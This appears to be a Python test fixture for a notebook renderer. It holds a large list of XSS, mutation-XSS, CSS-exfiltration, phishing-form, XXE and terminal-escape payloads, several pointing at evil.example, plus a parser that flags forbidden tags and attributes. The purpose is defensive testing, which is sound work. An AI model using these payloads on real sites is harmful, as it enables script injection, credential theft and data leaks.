"""Notebook content of an attacker, and what must never be in a page made of it."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

#: Harmful HTML as it may stand in Markdown cells and HTML outputs. Every script would leave a mark on the window.
HTML = (
    "<script>window.pwned=1</script>",
    "<SCRIPT\n>window.pwned=1</SCRIPT >",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x:x onerror\x00=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.pwned=1</script></svg>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    '<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:window.pwned=1" /></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    '<math><maction actiontype="statusline#http://evil.example">x</maction></math>',
    '<math href="javascript:window.pwned=1">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<template><script>window.pwned=1</script></template>",
    '<a href="javascript:window.pwned=1">x</a>',
    '<a href="java\tscript:window.pwned=1">x</a>',
    '<a href="&#106;avascript:window.pwned=1">x</a>',
    '<a href=" &#x01;javascript:window.pwned=1">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/-/sign-out">x</a>',
    '<a href="https://good.example" onclick=window.pwned=1 ping="https://evil.example" style="position:fixed;inset:0">x</a>',
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 2x">',
    '<img src="data:text/html,<script>window.pwned=1</script>">',
    '<picture><source srcset="https://evil.example/x"><img></picture>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/x">',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999">sign in again</div>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="https://evil.example/">',
    '<base target="_top">',
    '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
    '<button formaction="javascript:window.pwned=1">x</button>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<object data="data:text/html,<script>window.pwned=1</script>"></object>',
    "<embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<video src=https://evil.example/x onerror=window.pwned=1 autoplay></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    '<body onload=window.pwned=1 background="https://evil.example/x">',
    "<html><head><title></title><script>window.pwned=1</script></head></html>",
    "<details ontoggle=window.pwned=1 open>x</details>",
    "<textarea autofocus onfocus=window.pwned=1></textarea>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<isindex action=javascript:window.pwned=1 type=image>",
    "<table background=https://evil.example/x><td background=https://evil.example/x>x</table>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<!--[if IE]><script>window.pwned=1</script><![endif]-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "<xss-element onclick=window.pwned=1 contenteditable>x</xss-element>",
    '<div id="main" class="skip notice frame" is="x-y" slot=a part=b data-copy="x">x</div>',
    "<p title='<span class=\"math\">\ue0000\ue000</span>'>\ue0000\ue000</p>",
    "<plaintext><script>window.pwned=1</script>",
    "<xmp><script>window.pwned=1</script></xmp>",
)

MARKDOWN = (
    "[x](javascript:window.pwned=1)",
    "[x](<javascript:window.pwned=1>)",
    "[x](JaVaScRiPt&colon;window.pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:window.pwned=1",
    "<javascript:window.pwned=1>",
    "![x](javascript:window.pwned=1)",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="window.pwned=1](https://evil.example/x)',
    "![x](data:text/html,<script>window.pwned=1</script>)",
    "![x](attachment:../../secret)",
    '[x](https://good.example "onmouseover=window.pwned=1 \\" autofocus onfocus=window.pwned=1")',
    "```html\n<script>window.pwned=1</script>\n```",
    '```"><script>window.pwned=1</script>\nx\n```',
    "`<script>window.pwned=1</script>`",
    '# <script>window.pwned=1</script> "onclick=window.pwned=1',
    "$$\\text{<script>window.pwned=1</script>}$$",
    "$\\href{javascript:window.pwned=1}{x}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\text{&lt;img src=x onerror=window.pwned=1&gt;}$",
    "$$\\class{x}{\\unicode{<script>window.pwned=1</script>}}$$",
    "| <script>window.pwned=1</script> |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "x[^1]\n\n[^1]: <script>window.pwned=1</script>",
    '[^"onclick=window.pwned=1]\n\n[^"onclick=window.pwned=1]: x',
    *HTML,
)

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script><image href="https://evil.example/x"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><style>@import url(https://evil.example/x);</style></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    '"><script>window.pwned=1</script><svg>',
)

TERMINAL = (
    "\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07",
    "\x1b]0;<script>window.pwned=1</script>\x07",
    "\x1b[31m<script>window.pwned=1</script>\x1b[0m",
    '\x1b[38;5;"><script>window.pwned=1</script>m',
    "\x1b[\x1b[\x1b[999999999999999999999m<img src=x onerror=window.pwned=1>",
    "\x9b31m\x90<script>window.pwned=1</script>\x9c",
)


def notebook() -> dict[str, Any]:
    """Return a notebook with everything above in every place it can stand."""
    markdown = [{"cell_type": "markdown", "metadata": {}, "source": text} for text in MARKDOWN]
    attached = {
        "cell_type": "markdown",
        "metadata": {},
        "source": "![x](attachment:a.svg) ![y](attachment:b.html)",
        "attachments": {"a.svg": {"image/svg+xml": SVG[0]}, "b.html": {"text/html": HTML[0]}},
    }
    bundles: list[dict[str, Any]] = [{"text/html": text} for text in HTML]
    bundles += [{"text/markdown": text} for text in MARKDOWN]
    bundles += [{"image/svg+xml": text} for text in SVG]
    bundles += [{"text/latex": text} for text in MARKDOWN if text.startswith("$")]
    bundles += [{"text/plain": text} for text in TERMINAL]
    bundles += [
        {"application/javascript": "window.pwned=1"},
        {"application/json": {"<script>": "window.pwned=1</pre><script>window.pwned=1</script>"}},
        {"image/png": '"><script>window.pwned=1</script>'},
        {"image/png": "PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="},
        {'"><script>window.pwned=1</script>': "x"},
        {"application/vnd.<script>window.pwned=1</script>": "x", "text/plain": "x"},
        {"application/pdf": "x", "video/mp4": "x"},
    ]
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "metadata": {"image/png": {"width": '1"onerror=window.pwned=1'}}, "data": data} for data in bundles
    ]
    outputs += [{"output_type": "stream", "name": "stdout", "text": text} for text in (*TERMINAL, *HTML)]
    outputs.append({"output_type": "error", "ename": HTML[0], "evalue": HTML[3], "traceback": [*TERMINAL, *HTML]})
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "\n".join(HTML), "outputs": outputs}
    raw = {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": "\n".join(HTML)}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": HTML[0]}, "cells": [*markdown, attached, code, raw]}


class Inspector(HTMLParser):
    """Parses a document and lists what must not be in one."""

    def __init__(self, *, page: bool = False) -> None:
        super().__init__()
        self.findings: list[str] = []
        self._allowed = {"meta", "title", "style", "head", "html", "body", "main"} if page else set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN - self._allowed:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip()
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "srcset",
                "action",
                "formaction",
                "background",
                "ping",
                "is",
                "slot",
                "name",
            ):
                if not (tag == "meta" and name == "name"):
                    self.findings.append(f"<{tag} {name}>")
            elif name == "href" and not text.startswith(("http://", "https://", "mailto:", "#")):
                self.findings.append(f"<{tag} href={text}>")
            elif name == "src" and not text.startswith(
                ("data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp", "data:image/svg+xml")
            ):
                self.findings.append(f"<{tag} src={text}>")

    handle_startendtag = handle_starttag


_FORBIDDEN = set(
    """
    script style iframe object embed applet form input button select textarea link meta base svg foreignobject frame frameset
    template noscript video audio source track canvas title head html body main marquee maction annotation-xml mglyph isindex
    plaintext xmp image use animate portal
    """.split()
)


def findings(html: str, *, page: bool = False) -> list[str]:
    """Return what is forbidden in *html*; *page* for a whole document of ours."""
    inspector = Inspector(page=page)
    inspector.feed(html)
    inspector.close()
    return inspector.findings
